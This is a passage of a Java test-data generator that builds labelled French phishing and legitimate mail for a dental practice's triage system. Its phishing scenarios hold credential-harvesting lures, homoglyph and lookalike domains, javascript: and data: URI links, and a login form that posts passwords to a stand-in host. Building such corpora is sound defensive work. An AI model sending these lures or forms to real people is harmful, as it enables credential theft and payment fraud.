package dev.ins.phishing.testing;

import dev.ins.phishing.testing.LabelledMail.Label;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Supplier;

/**
 * A seeded generator of realistic, labelled French mail received by a dental practice: legitimate
 * mail with hard negatives (free-mail colleagues with PDFs and "urgent" wording, newsletters with
 * tracking redirects, the real Assurance Maladie, Urssaf and Doctolib, laboratory ZIPs, supplier
 * .docx and .xlsx, MSSanté reports, forwards), phishing of every kind the triage looks for,
 * synthetic malware attachments ({@link SyntheticAttachments}) and malformed messages.
 *
 * <p>The same seed gives the same messages, byte for byte. The practice is {@value #PRACTICE_DOMAIN};
 * its provider writes Authentication-Results as {@value #AUTHSERV_ID}; its supplier, software vendor
 * and laboratory are {@link #TRUSTED_DOMAINS}. Identities are synthetic or the ANS test identities.
 *
 * <pre>{@code
 * List<LabelledMail> corpus = MailCorpus.generate(42L, 600);
 * MailCorpus.write(corpus, Path.of("target/corpus"));   // NNNN-kind.eml + labels.csv
 * }</pre>
 */
public final class MailCorpus {

  /** The practice's own domain. */
  public static final String PRACTICE_DOMAIN = "cabinet-martin-dentiste.fr";
  /** The authserv-id of the practice's mail provider. */
  public static final String AUTHSERV_ID = "mx.hebergeur-cabinet.fr";
  /** Domains of the practice's supplier, software vendor and laboratory. */
  public static final List<String> TRUSTED_DOMAINS = List.of("dentaldepot.fr", "logiciel-dentaire.fr", "labo-biomed.fr");

  private static final String TO = "contact@" + PRACTICE_DOMAIN;
  private static final List<String> FIRST = List.of("Claire", "Julien", "Sophie", "Nicolas", "Camille", "Thomas", "Isabelle",
      "Mathieu", "Nathalie", "Karim", "Élodie", "François", "Hélène", "Antoine", "Inès", "Laurent", "Amélie", "Yann");
  private static final List<String> LAST = List.of("Bernard", "Petit", "Durand", "Leroy", "Moreau", "Simon", "Laurent",
      "Lefèvre", "Michel", "Garcia", "Roux", "Fournier", "Girard", "Bonnet", "Dupuis", "Lambert", "Fontaine", "Chevalier");
  private static final List<String> FREEMAIL = List.of("gmail.com", "orange.fr", "wanadoo.fr", "free.fr", "laposte.net",
      "hotmail.fr", "outlook.fr", "yahoo.fr", "sfr.fr");
  private static final List<String[]> PATIENTS = List.of(
      new String[] {"PAT-TROIS", "Dominique", "279035121518989"},
      new String[] {"ADRTROIS", "Toussaint", "160012B02077713"},
      new String[] {"NESSI", "Michelangelo", "110086322083060"},
      new String[] {"ADRUN", "Zoé", "275126322074974"});
  private static final List<String> BAD_HOSTS = List.of("secure-assure-remb.com", "verif-compte-pro.net", "espace-pro-maj.info",
      "paiement-dossier.xyz", "maj-carte-pro.top", "portail-sante-pro.online", "docs-partage-cloud.site", "support-ecps.click");

  private final SplittableRandom r;
  private int serial;

  private MailCorpus(long seed) {
    this.r = new SplittableRandom(seed);
  }

  /**
   * Generates a corpus: about 55 % legitimate, 25 % phishing, 15 % malware, 5 % malformed,
   * scenarios drawn in turn so that every kind appears.
   *
   * @param seed the seed (print it: the same seed gives the same corpus)
   * @param count how many messages
   * @return the messages, named {@code NNNN-kind.eml}
   */
  public static List<LabelledMail> generate(long seed, int count) {
    MailCorpus c = new MailCorpus(seed);
    List<Scenario> legit = c.legit();
    List<Scenario> phishing = c.phishing();
    List<Scenario> malware = c.malware();
    List<Scenario> malformed = c.malformed();
    List<LabelledMail> out = new ArrayList<>(count);
    int[] next = new int[4];
    for (int i = 0; i < count; i++) {
      double x = c.r.nextDouble();
      int group = x < 0.55 ? 0 : x < 0.80 ? 1 : x < 0.95 ? 2 : 3;
      List<Scenario> list = group == 0 ? legit : group == 1 ? phishing : group == 2 ? malware : malformed;
      Scenario s = list.get(next[group]++ % list.size());
      c.serial = i;
      byte[] raw = s.make().get();
      out.add(new LabelledMail(String.format(Locale.ROOT, "%04d-%s.eml", i, s.kind()), s.label(), s.kind(), raw));
    }
    return out;
  }

  /**
   * Writes a corpus as {@code .eml} files plus {@code labels.csv} ({@code file,label,kind}).
   *
   * @param corpus the messages
   * @param dir the directory (created)
   * @throws IOException when writing fails
   */
  public static void write(List<LabelledMail> corpus, Path dir) throws IOException {
    Files.createDirectories(dir);
    StringBuilder labels = new StringBuilder("file,label,kind\n");
    for (LabelledMail m : corpus) {
      Files.write(dir.resolve(m.name()), m.raw());
      labels.append(m.name()).append(',').append(m.label()).append(',').append(m.kind()).append('\n');
    }
    Files.writeString(dir.resolve("labels.csv"), labels, StandardCharsets.UTF_8);
  }

  /** One scenario. */
  private record Scenario(Label label, String kind, Supplier<byte[]> make) {}

  // ------------------------------------------------------------------ helpers

  private <T> T pick(List<T> list) {
    return list.get(r.nextInt(list.size()));
  }

  private String person() {
    return pick(FIRST) + " " + pick(LAST);
  }

  private static String ascii(String s) {
    return java.text.Normalizer.normalize(s, java.text.Normalizer.Form.NFD).replaceAll("\\p{M}", "")
        .toLowerCase(Locale.ROOT).replace(' ', '.');
  }

  private String amount() {
    return String.format(Locale.FRANCE, "%d,%02d €", 20 + r.nextInt(900), r.nextInt(100));
  }

  private String ref() {
    return Integer.toString(100000 + r.nextInt(900000));
  }

  private ZonedDateTime date() {
    return ZonedDateTime.parse("2026-01-05T08:00:00+01:00").plusMinutes(r.nextInt(60 * 24 * 90));
  }

  private String auth(String fromDomain, String dmarc) {
    String spf = dmarc.equals("fail") ? "softfail" : "pass";
    String dkim = dmarc.equals("fail") ? "none" : "pass header.d=" + fromDomain + " header.s=s" + r.nextInt(9);
    return AUTHSERV_ID + "; spf=" + spf + " smtp.mailfrom=" + fromDomain + "; dkim=" + dkim + "; dmarc=" + dmarc
        + (dmarc.equals("pass") ? " (p=" + pick(List.of("NONE", "QUARANTINE", "REJECT")) + ")" : "") + " header.from=" + fromDomain;
  }

  private MailComposer base(String display, String address, String dmarc) {
    String domain = address.substring(address.indexOf('@') + 1);
    MailComposer m = new MailComposer().from(display, address).to(TO).date(date())
        .messageId("<" + ref() + "." + serial + "@" + domain + ">")
        .received("from mail." + domain + " by " + AUTHSERV_ID + " with ESMTPS; " + "Mon, 2 Mar 2026 09:15:00 +0100");
    if (dmarc != null) {
      m.authenticationResults(auth(domain, dmarc));
    }
    if (r.nextInt(4) == 0) {
      m.textEncoding(pick(List.of("quoted-printable", "base64", "8bit")));
    }
    return m;
  }

  private String html(String... paragraphs) {
    StringBuilder b = new StringBuilder("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body style=\"font-family:Arial\">");
    for (String p : paragraphs) {
      b.append(p.startsWith("<") ? p : "<p>" + p + "</p>");
    }
    return b.append("</body></html>").toString();
  }

  private String signature(String name) {
    return "\n\n--\n" + name + "\n" + pick(List.of("Chirurgien-dentiste", "Médecin généraliste", "Orthodontiste", "Assistante dentaire",
        "Secrétariat médical", "Kinésithérapeute"));
  }

  // ------------------------------------------------------------------ legitimate mail

  private List<Scenario> legit() {
    return List.of(
        new Scenario(Label.LEGIT, "legit-colleague-freemail-pdf", this::colleaguePdf),
        new Scenario(Label.LEGIT, "legit-colleague-urgent", this::colleagueUrgent),
        new Scenario(Label.LEGIT, "legit-newsletter-tracking", this::newsletterTracking),
        new Scenario(Label.LEGIT, "legit-newsletter-esp", this::newsletterEsp),
        new Scenario(Label.LEGIT, "legit-ameli", this::realAmeli),
        new Scenario(Label.LEGIT, "legit-urssaf", this::realUrssaf),
        new Scenario(Label.LEGIT, "legit-doctolib", this::realDoctolib),
        new Scenario(Label.LEGIT, "legit-lab-zip", this::labZip),
        new Scenario(Label.LEGIT, "legit-supplier-docx", this::supplierDocx),
        new Scenario(Label.LEGIT, "legit-mssante-report", this::mssanteReport),
        new Scenario(Label.LEGIT, "legit-bank", this::realBank),
        new Scenario(Label.LEGIT, "legit-vendor-update", this::vendorUpdate),
        new Scenario(Label.LEGIT, "legit-forward", this::forward),
        new Scenario(Label.LEGIT, "legit-invitation-qr", this::invitationQr),
        new Scenario(Label.LEGIT, "legit-no-auth-colleague", this::noAuthColleague),
        new Scenario(Label.LEGIT, "legit-practitioner-personal-mail", this::practitionerPersonal),
        new Scenario(Label.LEGIT, "legit-supplier-invoice-platform", this::supplierInvoicePlatform),
        new Scenario(Label.LEGIT, "legit-pdf-with-links", this::pdfWithLinks),
        new Scenario(Label.LEGIT, "legit-share-service", this::shareService),
        new Scenario(Label.LEGIT, "legit-parcel-notice", this::parcelNotice),
        new Scenario(Label.LEGIT, "legit-accountant-transfer", this::accountantTransfer));
  }

  private byte[] colleaguePdf() {
    String name = person();
    String addr = ascii(name) + "@" + pick(FREEMAIL);
    String[] p = pick(PATIENTS);
    String body = pick(List.of("Bonjour Claire,\n\nCi-joint le compte rendu de la consultation de " + p[0] + " " + p[1]
            + ". Je reste disponible si besoin.\n\nBien confraternellement,",
        "Bonjour,\n\nVoici la radio panoramique dont nous avons parlé au téléphone. Le patient est suivi pour un bilan parodontal."
            + "\n\nBonne journée,",
        "Salut Claire,\n\nJe t'envoie le devis du patient " + p[0] + " (NIR " + p[2] + ") pour avis.\n\nMerci d'avance !"));
    return base(name, addr, "pass").subject(pick(List.of("Compte rendu", "Radio panoramique", "Devis pour avis", "CR consultation")))
        .text(body + signature(name))
        .attach(pick(List.of("compte-rendu.pdf", "CR_" + p[0] + ".pdf", "panoramique.pdf", "devis.pdf")), "application/pdf",
            SyntheticAttachments.pdf("Compte rendu synthetique " + ref()))
        .build();
  }

  private byte[] colleagueUrgent() {
    String name = person();
    String addr = ascii(name) + "@" + pick(FREEMAIL);
    String body = pick(List.of(
        "Claire,\n\nC'est urgent : peux-tu me rappeler avant ce soir au sujet du remplacement de la semaine prochaine ?\n\nMerci",
        "Bonjour,\n\nURGENT - le patient de 14h a annulé, je te propose de décaler le suivant. Réponds-moi au plus vite.\n\nBises",
        "Bonjour Claire,\n\nDernier rappel pour le dîner de l'association samedi : il faut confirmer sous 48h.\n\nAmicalement"));
    return base(name, addr, "pass").subject(pick(List.of("Urgent", "URGENT remplacement", "Rappel", "Vite !"))).text(body + signature(name)).build();
  }

  private byte[] newsletterTracking() {
    String site = pick(List.of("dentaire-info.fr", "actu-dentaire.fr", "lettre-sante-pro.fr"));
    String click = "https://click." + site + "/r/" + ref() + "?url=";
    String a1 = "https://www." + site + "/articles/implantologie-" + ref();
    String a2 = "https://www." + site + "/agenda";
    String h = html("<img src=\"https://img." + site + "/logo.png\" alt=\"logo\">",
        "Bonjour Docteur,",
        "Au sommaire cette semaine : les nouvelles recommandations sur l'antibioprophylaxie, la revalorisation des actes"
            + " et notre dossier sur l'implantologie.",
        "<a href=\"" + click + java.net.URLEncoder.encode(a1, StandardCharsets.UTF_8) + "\">Lire l'article</a>",
        "<a href=\"" + click + java.net.URLEncoder.encode(a2, StandardCharsets.UTF_8) + "\">www." + site + "/agenda</a>",
        "<a href=\"https://click." + site + "/unsub/" + ref() + "\">Se désinscrire</a>");
    return base("La lettre " + site, "newsletter@" + site, "pass").subject("Votre lettre hebdomadaire n°" + r.nextInt(300))
        .header("List-Unsubscribe", "<https://click." + site + "/unsub/" + ref() + ">").html(h).build();
  }

  private byte[] newsletterEsp() {
    String site = pick(List.of("formation-dentaire.fr", "congres-odonto.fr", "groupement-dentistes.fr"));
    String esp = pick(List.of("xk2p.mjt.lu/lnk/AVAA", "cabinet.us3.list-manage.com/track/click?u=" + ref() + "&id=", "r.sendibt3.com/tr/cl/"));
    String h = html("Chers confrères,", "Les inscriptions au congrès de printemps sont ouvertes. Tarif préférentiel jusqu'au 31 mars.",
        "<a href=\"https://" + esp + ref() + "\">www." + site + "</a>",
        "<a href=\"https://" + esp + ref() + "\">Je m'inscris</a>");
    return base(pick(List.of("Congrès Odonto", "Formation Dentaire", "Le Groupement")), "info@" + site, "pass")
        .returnPath("bounce-" + ref() + "@" + pick(List.of("bnc3.mailjet.com", "mail123.us3.mcsv.net", "sendib.com")))
        .subject("Inscriptions ouvertes").html(h).build();
  }

  private byte[] realAmeli() {
    String h = html("Madame, Monsieur,",
        "Votre attestation de droits est disponible dans votre compte ameli. Pour tout remboursement, connectez-vous"
            + " directement sur le site officiel. Pensez à mettre à jour votre carte Vitale en pharmacie.",
        "<a href=\"https://www.ameli.fr/assure/remboursements\">https://www.ameli.fr/assure/remboursements</a>",
        "L'Assurance Maladie ne vous demandera jamais vos coordonnées bancaires par e-mail.");
    return base("Assurance Maladie", "assurance-maladie@info.ameli.fr", "pass")
        .subject(pick(List.of("Votre attestation est disponible", "Information sur vos remboursements", "Mon espace santé : nouveautés")))
        .html(h).build();
  }

  private byte[] realUrssaf() {
    String t = "Bonjour,\n\nVotre échéance du " + (1 + r.nextInt(28)) + "/0" + (1 + r.nextInt(9)) + " est disponible dans votre"
        + " espace en ligne. Montant : " + amount() + ".\n\nConnectez-vous sur https://www.urssaf.fr pour la consulter.\n\nL'Urssaf";
    return base("Urssaf", "ne-pas-repondre@info.urssaf.fr", "pass").subject("Votre échéancier").text(t).build();
  }

  private byte[] realDoctolib() {
    String h = html("Bonjour Docteur,",
        "Un nouveau rendez-vous a été pris le " + (1 + r.nextInt(28)) + " mars à " + (8 + r.nextInt(10)) + "h" + (r.nextInt(4) * 15) + ".",
        "<a href=\"https://pro.doctolib.fr/agenda\">Voir mon agenda</a>",
        "<a href=\"https://www.doctolib.fr/help\">Centre d'aide</a>");
    return base("Doctolib", "no-reply@doctolib.fr", "pass").subject("Nouveau rendez-vous").html(h).build();
  }

  private byte[] labZip() {
    String[] p = pick(PATIENTS);
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("resultats_" + p[0] + ".pdf", SyntheticAttachments.pdf("Resultats " + ref()));
    files.put("prescription.pdf", SyntheticAttachments.pdf("Prescription " + ref()));
    return base("Laboratoire Biomed", "resultats@labo-biomed.fr", "pass").subject("Résultats d'analyses - dossier " + ref())
        .text("Bonjour,\n\nVeuillez trouver ci-joint les résultats demandés.\n\nLaboratoire Biomed")
        .attach("resultats_" + ref() + ".zip", "application/zip", SyntheticAttachments.zip(files)).build();
  }

  private byte[] supplierDocx() {
    MailComposer m = base("DentalDepot - Service commercial", "commercial@dentaldepot.fr", "pass")
        .subject("Devis n°" + ref())
        .text("Bonjour Docteur,\n\nSuite à votre demande, veuillez trouver notre devis pour le fauteuil et les consommables."
            + "\nLe règlement s'effectue par virement sur notre IBAN habituel.\n\nCordialement,\nLe service commercial")
        .attach("devis_" + ref() + ".docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            SyntheticAttachments.ooxml(false));
    if (r.nextBoolean()) {
      m.attach("tarifs.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", SyntheticAttachments.ooxml(false));
    }
    if (r.nextBoolean()) {
      m.attach("ancien_devis.doc", "application/msword", SyntheticAttachments.ole2(false));
    }
    return m.build();
  }

  private byte[] mssanteReport() {
    String name = person();
    String addr = ascii(name) + "@" + pick(List.of("medecin.mssante.fr", "chirurgien-dentiste.mssante.fr", "ch-exemple.mssante.fr"));
    String[] p = pick(PATIENTS);
    return base("Dr " + name, addr, "pass").subject("Adressage " + p[0] + " " + p[1])
        .text("Chère consœur,\n\nJe vous adresse " + p[0] + " " + p[1] + " pour avulsion des dents de sagesse."
            + " Antécédents joints.\n\nConfraternellement," + signature("Dr " + name))
        .attach("lettre_adressage.pdf", "application/pdf", SyntheticAttachments.pdf("Adressage " + ref())).build();
  }

  private byte[] realBank() {
    String[] bank = pick(List.of(new String[] {"Crédit Agricole", "credit-agricole.fr"}, new String[] {"LCL", "lcl.fr"},
        new String[] {"Société Générale", "societegenerale.fr"}));
    String h = html("Bonjour,", "Votre relevé de compte professionnel du mois est disponible dans votre espace client.",
        "<a href=\"https://www." + bank[1] + "/professionnel\">Accéder à mon espace</a>",
        "Pour votre sécurité, nous ne vous demandons jamais vos codes par e-mail.");
    return base(bank[0], "information@" + bank[1], "pass").subject("Votre relevé est disponible").html(h).build();
  }

  private byte[] vendorUpdate() {
    String h = html("Bonjour,", "La version " + (20 + r.nextInt(5)) + "." + r.nextInt(10) + " de votre logiciel est disponible."
            + " Elle intègre le nouveau téléservice INSi et corrige l'export des feuilles de soins.",
        "<a href=\"https://www.logiciel-dentaire.fr/notes-de-version\">Notes de version</a>",
        "<a href=\"https://support.logiciel-dentaire.fr\">support.logiciel-dentaire.fr</a>");
    return base("Logiciel Dentaire - Support", "support@logiciel-dentaire.fr", "pass").subject("Nouvelle version disponible").html(h).build();
  }

  private byte[] forward() {
    byte[] inner = new MailComposer().from("Ordre des chirurgiens-dentistes", "communication@ordre-chirurgiens-dentistes.fr")
        .subject("Assemblée générale").text("Chers confrères, l'assemblée générale se tiendra le 12 juin.").build();
    String name = person();
    String addr = ascii(name) + "@" + pick(FREEMAIL);
    return base(name, addr, "pass").subject("Tr: Assemblée générale").text("Pour info, voir ci-dessous." + signature(name))
        .attach("Assemblee generale.eml", "message/rfc822", inner).build();
  }

  private byte[] invitationQr() {
    String site = "congres-odonto.fr";
    String h = html("Chers confrères,", "Scannez le QR code ci-dessous ou inscrivez-vous en ligne pour la soirée de formation.",
        "<img src=\"cid:qr1\" alt=\"QR code\">",
        "<a href=\"https://www." + site + "/inscription\">S'inscrire</a>",
        "<a href=\"https://www." + site + "/programme\">Programme</a>");
    return base("Congrès Odonto", "evenements@" + site, "pass").subject("Soirée de formation").html(h)
        .inlineImage("qr1", "image/png", SyntheticAttachments.png(r.nextLong())).build();
  }

  private byte[] noAuthColleague() {
    String name = person();
    String domain = "cabinet-" + ascii(pick(LAST)) + ".fr";
    return base(name, ascii(pick(FIRST)) + "@" + domain, null).subject("Remplacement d'été")
        .text("Bonjour,\n\nJe cherche un remplaçant pour juillet, seriez-vous intéressée ?\n\nCordialement," + signature(name)).build();
  }

  private byte[] practitionerPersonal() {
    String addr = pick(List.of("claire.martin", "c.martin", "clairemartin", "dr.claire.martin")) + r.nextInt(99) + "@" + pick(FREEMAIL);
    String body = pick(List.of(
        "Bonjour,\n\nJe suis bloquée à la formation, c'est urgent : pouvez-vous décaler mes patients de 14h et 15h à jeudi ?\n\nMerci",
        "Coucou,\n\nJ'ai oublié mon badge, peux-tu me laisser la porte ouverte demain à 8h ? Réponds-moi au plus vite.\n\nClaire",
        "Bonjour à toutes,\n\nPour info, le cabinet sera fermé le 15 août. Pensez à mettre à jour l'agenda en ligne sans délai.\n\nClaire"));
    return base(pick(List.of("Claire Martin", "Dr Claire Martin", "Claire MARTIN")), addr, "pass")
        .subject(pick(List.of("Urgent", "Demain", "Fermeture", "Agenda"))).text(body).build();
  }

  private byte[] supplierInvoicePlatform() {
    String platform = pick(List.of("factures-en-ligne.fr", "mail.facturation-pro.com", "notify.edocs-pme.fr"));
    String n = ref();
    byte[] pdf = SyntheticAttachments.pdfWithLink(List.of("DentalDepot SAS - Facture n " + n, "Date : 12/03/2026",
        "Designation : gants nitrile x 20 boites, compresses steriles x 10, fraises diamantees x 5",
        "Montant HT : 412,50 EUR - TVA 20 % : 82,50 EUR - Total TTC : 495,00 EUR",
        "Reglement par virement a 30 jours sur le compte habituel. Penalites de retard : 3 fois le taux legal.",
        "Conditions generales de vente disponibles sur notre site. Merci de votre confiance."),
        "https://www.dentaldepot.fr/espace-client/factures/" + n, r.nextBoolean());
    return base(pick(List.of("DentalDepot via Facturation", "DentalDepot (factures)", "Service facturation DentalDepot")),
        "noreply@" + platform, "pass").subject("Facture n°" + n + " disponible")
        .text("Bonjour,\n\nVotre facture n°" + n + " est disponible. Règlement par virement à 30 jours, comme d'habitude."
            + "\nConsultez votre espace client : https://www.dentaldepot.fr/espace-client\n\nDentalDepot")
        .attach("Facture_" + n + ".pdf", "application/pdf", pdf).build();
  }

  private byte[] pdfWithLinks() {
    String site = pick(List.of("congres-odonto.fr", "formation-dentaire.fr"));
    if (r.nextBoolean()) {
      byte[] pdf = SyntheticAttachments.pdfWithLink(List.of("Programme des journees de printemps", "Vendredi 9h00 : accueil des participants",
          "9h30 : antibioprophylaxie en omnipratique, recommandations actualisees", "11h00 : implantologie et patients sous anticoagulants",
          "14h00 : ateliers pratiques par groupes de douze, inscription obligatoire", "16h30 : table ronde sur la radioprotection au cabinet",
          "Inscriptions et informations pratiques sur notre site internet."), "https://www." + site + "/inscription", r.nextBoolean());
      return base("Congrès Odonto", "evenements@" + site, "pass").subject("Programme des journées")
          .text("Chers confrères,\n\nVous trouverez le programme en pièce jointe.\n\nL'équipe d'organisation")
          .attach("programme.pdf", "application/pdf", pdf).build();
    }
    byte[] pdf = SyntheticAttachments.pdfWithLink(List.of("Bon de reduction -10 %"), "https://www." + site + "/boutique", r.nextBoolean());
    return base("Formation Dentaire", "boutique@" + site, "pass").subject("Votre bon de réduction")
        .text("Bonjour,\n\nVotre bon de réduction est en pièce jointe.\n\nFormation Dentaire").attach("bon.pdf", "application/pdf", pdf).build();
  }

  private byte[] shareService() {
    String name = person();
    String addr = ascii(name) + "@" + pick(FREEMAIL);
    String[] svc = pick(List.of(new String[] {"WeTransfer", "https://we.tl/t-" + ref() + "AbCd"},
        new String[] {"Dropbox", "https://www.dropbox.com/scl/fi/" + ref() + "/radios.zip?dl=0"},
        new String[] {"OneDrive", "https://1drv.ms/f/s!A" + ref() + "xyz"}));
    return base(name, addr, "pass").subject("Radios du patient")
        .text("Bonjour,\n\nJe vous ai partagé les radios par " + svc[0] + " (fichier trop lourd pour un e-mail) : " + svc[1]
            + "\n\nLe lien expire dans 7 jours." + signature(name)).build();
  }

  private byte[] parcelNotice() {
    String[] brand = pick(List.of(new String[] {"Chronopost", "chronopost.fr", "chronopost.fr"},
        new String[] {"Mondial Relay", "notifications-colis.fr", "mondialrelay.fr"}, new String[] {"DPD France", "dpd.fr", "dpd.fr"}));
    String h = html("Bonjour,", "Votre colis n°" + ref() + " sera livré demain entre 9h et 13h. Paiement déjà effectué, rien à régler.",
        "<a href=\"https://www." + brand[2] + "/suivi/" + ref() + "\">Suivre mon colis</a>");
    return base(brand[0], "noreply@" + brand[1], "pass").subject("Votre colis arrive demain").html(h).build();
  }

  private byte[] accountantTransfer() {
    return base("Cabinet Ferrand Expertise", "contact@ferrand-expertise.fr", "pass").subject("Acompte d'impôt")
        .text("Bonjour Docteur,\n\nL'acompte de " + amount() + " sera prélevé le 15. Si vous préférez un virement, notre IBAN"
            + " figure sur la lettre de mission.\n\nBien cordialement,\nCabinet Ferrand Expertise").build();
  }

  // ------------------------------------------------------------------ phishing

  private List<Scenario> phishing() {
    return List.of(
        new Scenario(Label.PHISHING, "phishing-display-name-freemail", this::displayNameFreemail),
        new Scenario(Label.PHISHING, "phishing-lookalike-sender", this::lookalikeSender),
        new Scenario(Label.PHISHING, "phishing-confusable-link", this::confusableLink),
        new Scenario(Label.PHISHING, "phishing-link-text-mismatch", this::linkMismatch),
        new Scenario(Label.PHISHING, "phishing-ip-link", this::ipLink),
        new Scenario(Label.PHISHING, "phishing-shortener", this::shortener),
        new Scenario(Label.PHISHING, "phishing-open-redirect", this::openRedirect),
        new Scenario(Label.PHISHING, "phishing-script-link", this::scriptLink),
        new Scenario(Label.PHISHING, "phishing-credential-form", this::credentialForm),
        new Scenario(Label.PHISHING, "phishing-html-attachment", this::htmlAttachment),
        new Scenario(Label.PHISHING, "phishing-qr-code", this::qrCode),
        new Scenario(Label.PHISHING, "phishing-spoofed-institution", this::spoofedInstitution),
        new Scenario(Label.PHISHING, "phishing-iban-change", this::ibanChange),
        new Scenario(Label.PHISHING, "phishing-punycode-sender", this::punycodeSender),
        new Scenario(Label.PHISHING, "phishing-userinfo-link", this::userinfoLink),
        new Scenario(Label.PHISHING, "phishing-ceo-fraud-freemail", this::ceoFraud),
        new Scenario(Label.PHISHING, "phishing-supplier-bank-change", this::supplierBankChange),
        new Scenario(Label.PHISHING, "phishing-payment-reply-to", this::paymentReplyTo),
        new Scenario(Label.PHISHING, "phishing-unknown-brand", this::unknownBrand),
        new Scenario(Label.PHISHING, "phishing-compromised-share", this::compromisedShare),
        new Scenario(Label.PHISHING, "phishing-pdf-link-only", this::pdfLinkOnly));
  }

  private String lure() {
    return pick(List.of(
        "Vous avez droit à un remboursement de " + amount() + ". Pour le recevoir, confirmez vos informations avant 48 heures.",
        "Votre carte Vitale arrive à expiration. Commandez votre nouvelle carte dès aujourd'hui, faute de quoi vos droits seront suspendus.",
        "Votre e-CPS doit être renouvelée : sans action de votre part sous 24 heures, votre accès sera désactivé.",
        "Un trop-perçu de " + amount() + " a été constaté sur votre compte. Connectez-vous pour régulariser votre situation.",
        "Votre compte professionnel a été bloqué suite à une activité inhabituelle. Validez votre identité pour le réactiver."));
  }

  private String[] institution() {
    return pick(List.of(new String[] {"Assurance Maladie", "ameli"}, new String[] {"ameli.fr", "ameli"},
        new String[] {"Urssaf", "urssaf"}, new String[] {"Service e-CPS", "ecps"}, new String[] {"Doctolib Pro", "doctolib"},
        new String[] {"CNIL - Conformité RGPD", "cnil"}, new String[] {"Crédit Agricole", "ca"}));
  }

  private byte[] displayNameFreemail() {
    String[] inst = institution();
    String addr = pick(List.of("service.client", "remboursement", "notification", "support")) + r.nextInt(999) + "@" + pick(FREEMAIL);
    String h = html("Bonjour,", lure(), "<a href=\"https://" + pick(BAD_HOSTS) + "/" + inst[1] + "/login\">Accéder à mon espace</a>");
    return base(inst[0], addr, "pass").subject(pick(List.of("Action requise", "Remboursement en attente", "Dernier avertissement")))
        .html(h).build();
  }

  private byte[] lookalikeSender() {
    String domain = pick(List.of("ameli-remboursement.fr", "mon-doctolib.com", "urssaf-gouv.fr", "amelli.fr", "ameli-fr.com",
        "doctoiib.fr", "impots-gouv.fr", "ecps-esante.fr", "credit-agricole-pro.com", "dentaldep0t.fr", "logiciel-dentaire-support.com",
        "cabinet-martin-dentistes.fr"));
    String h = html("Bonjour,", lure(), "<a href=\"https://www." + domain + "/espace\">Se connecter</a>");
    return base(pick(List.of("Service client", "Assistance", "Notification", "Comptabilité")), "contact@" + domain, "pass")
        .subject("Information importante").html(h).build();
  }

  private byte[] confusableLink() {
    String host = pick(List.of("аmeli.fr", "doctоlib.fr", "urssаf.fr", "impоts.gouv.fr"));
    String h = html("Bonjour,", lure(), "<a href=\"https://" + host + "/connexion\">Cliquez ici</a>");
    return base("Service client", "info@" + pick(List.of("newsletter-pro.net", "mailing-service.org", "notif-compte.com")), "pass")
        .subject("Mise à jour de votre dossier").html(h).build();
  }

  private byte[] linkMismatch() {
    String shown = pick(List.of("https://www.ameli.fr/assure", "www.doctolib.fr/connexion", "https://www.urssaf.fr/accueil",
        "https://www.impots.gouv.fr", "https://wallet.esante.gouv.fr"));
    String h = html("Madame, Monsieur,", lure(), "<a href=\"https://" + pick(BAD_HOSTS) + "/s/" + ref() + "\">" + shown + "</a>");
    return base(pick(List.of("Info Assurés", "Espace Pro", "Service des remboursements")), "noreply@" + pick(List.of("mail-pro-info.com",
        "assistance-compte.net", "relation-usagers.org")), pick(List.of("pass", "none"))).subject("Votre dossier").html(h).build();
  }

  private byte[] ipLink() {
    String ip = (80 + r.nextInt(120)) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + (1 + r.nextInt(254));
    String t = "Bonjour,\n\n" + lure() + "\n\nRendez-vous sur http://" + ip + "/espace-pro/login.php\n\nCordialement";
    return base("Espace Professionnel", "alerte@" + pick(List.of("secure-mailer.net", "pro-notification.com")), "none")
        .subject("Alerte de sécurité").text(t).build();
  }

  private byte[] shortener() {
    String link = "https://" + pick(List.of("bit.ly", "tinyurl.com", "cutt.ly", "rb.gy")) + "/" + Long.toString(r.nextLong() & 0xFFFFFFFL, 36);
    String h = html("Bonjour,", lure(), "<a href=\"" + link + "\">" + link + "</a>");
    return base("Service e-CPS", "ne-pas-repondre@" + pick(List.of("ecps-service.net", "cps-renouvellement.com", "carte-pro.info")), "pass")
        .subject("Renouvellement e-CPS").html(h).build();
  }

  private byte[] openRedirect() {
    String target = "https://" + pick(BAD_HOSTS) + "/ameli/";
    String via = pick(List.of("https://www.google.com/url?q=", "https://l.facebook.com/l.php?u=", "https://t.umblr.com/redirect?z=",
        "https://www.bing.com/ck/a?u="));
    String h = html("Bonjour,", lure(), "<a href=\"" + via + java.net.URLEncoder.encode(target, StandardCharsets.UTF_8) + "\">Accéder au formulaire</a>");
    return base("Remboursements", "info@" + pick(List.of("remb-info.com", "relation-client.org")), "pass").subject("Remboursement").html(h).build();
  }

  private byte[] scriptLink() {
    String href = pick(List.of("javascript:window.location='https://" + pick(BAD_HOSTS) + "'",
        "data:text/html;base64,PGgxPkNvbm5leGlvbjwvaDE+PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg=="));
    String h = html("Bonjour,", lure(), "<a href=\"" + href + "\">Ouvrir le document</a>");
    return base("Partage de document", "share@" + pick(List.of("docs-partage.net", "fichiers-pro.com")), "pass").subject("Document partagé").html(h).build();
  }

  private byte[] credentialForm() {
    String h = html("Bonjour,", lure(),
        "<form action=\"https://" + pick(BAD_HOSTS) + "/collect.php\" method=\"post\">Identifiant : <input type=\"text\" name=\"user\">"
            + " Mot de passe : <input type=\"password\" name=\"pass\"><input type=\"submit\" value=\"Valider\"></form>");
    return base(pick(List.of("Messagerie", "Administrateur", "Support technique")), "admin@" + pick(List.of("webmail-update.net", "support-boite.com")),
        "none").subject("Votre boîte aux lettres est pleine").html(h).build();
  }

  private byte[] htmlAttachment() {
    String[] inst = institution();
    return base(pick(List.of("Scanner", "Comptabilité", "Facturation")), "noreply@" + pick(List.of("scan-office.net", "facture-en-ligne.com")), "pass")
        .subject("Document à signer").text("Bonjour,\n\nVeuillez trouver le document en pièce jointe.\n\nCordialement")
